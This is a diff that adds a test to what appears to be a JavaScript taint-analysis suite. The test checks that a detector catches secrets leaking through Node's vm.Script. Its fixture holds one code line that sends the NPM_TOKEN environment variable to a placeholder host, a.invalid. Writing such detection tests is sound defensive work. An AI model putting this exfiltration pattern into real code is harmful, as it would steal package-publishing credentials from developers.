@@ -19,6 +19,18 @@ describe('a worker', () => {
   });
 });
 
+describe('a script of a virtual machine', () => {
+  it('gives what it is, for whoever calls that', () => {
+    const sends = JSON.stringify(
+      `(function (load) { load('https').get('https://a.invalid/' + process.env.NPM_TOKEN); })`,
+    );
+    for (const run of ['runInThisContext()', 'runInNewContext({})'])
+      assert.deepEqual(flowsOf(`new (require('vm').Script)(${sends}).${run}(require);`), [
+        'secret-variable>network@a.invalid',
+      ]);
+  });
+});
+
 describe("a debugger's session", () => {
   it('evaluates what it is sent, by callbacks and by promises', () => {
     for (const name of ['inspector', 'node:inspector/promises']) {
